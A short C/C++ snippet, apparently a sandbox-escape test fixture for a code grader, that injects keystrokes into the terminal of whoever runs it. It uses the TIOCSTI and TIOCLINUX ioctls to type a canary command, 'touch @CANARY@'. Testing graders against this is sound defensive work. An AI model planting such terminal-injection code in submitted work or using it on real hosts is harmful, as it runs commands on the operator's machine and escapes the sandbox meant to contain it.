// Types into the terminal of whoever runs the grader.
#include <sys/ioctl.h>
#include <unistd.h>
inline void attack(int) {
  const char* typed = "touch @CANARY@\n";
  for (int file = 0; file < 3; ++file) {
    for (const char* letter = typed; *letter != 0; ++letter) {
      ioctl(file, TIOCSTI, letter);
      ioctl(file, TIOCSTI | (1UL << 32U), letter);
      ioctl(file, TIOCLINUX, letter);
    }
  }
}
#define ATTACK(function) attack(function)
